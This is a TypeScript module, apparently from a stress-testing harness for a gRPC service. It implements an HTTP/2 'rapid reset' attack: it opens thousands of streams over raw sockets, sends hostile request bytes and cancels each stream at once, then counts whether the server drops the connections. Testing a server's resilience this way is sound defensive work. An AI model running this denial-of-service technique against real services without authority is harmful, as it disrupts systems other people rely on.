import type { Attack } from '../attack.js';
import { flags, frame, frameTypes, preface, requestHeaders } from '../frames.js';
import { envelope, rpcs } from '../grpc.js';
import { hostileBytes } from '../requests.js';
import { RawSocket } from '../sockets.js';

const streams = 3000;
const connections = 4;

/** Streams that are cancelled as soon as they are opened, faster than they can be served. */
export const rapidResets: Attack = {
  name: 'rapid-resets',
  // Node stops reading from a connection with which it has lost patience: that it is gone is noticed by keepalive.
  forgetMs: 25_000,
  async run({ target, random, tally }) {
    const cancel = Buffer.of(0, 0, 0, 8);
    const messages = rpcs.map((rpc) => ({ rpc, bytes: envelope(hostileBytes(rpc, random)).subarray(0, 16_000) }));
    await Promise.all(
      Array.from({ length: connections }, async () => {
        await using raw = new RawSocket(target);
        raw.write(Buffer.concat([preface, frame(frameTypes.settings, 0, 0, Buffer.alloc(0))]));
        for (let i = 0; i < streams && !raw.socket.destroyed; i++) {
          const id = 2 * i + 1;
          const { rpc, bytes } = random.pick(messages);
          raw.write(
            Buffer.concat([
              frame(frameTypes.headers, flags.endHeaders, id, requestHeaders(`/cosi.resource.State/${rpc}`)),
              frame(frameTypes.data, flags.endStream, id, bytes),
              frame(frameTypes.rstStream, 0, id, cancel),
            ]),
          );
          if (i % 100 === 0) await new Promise((resolve) => setImmediate(resolve));
        }
        tally.add(raw.socket.destroyed ? 'connections ended' : 'connections left');
      }),
    );
  },
};
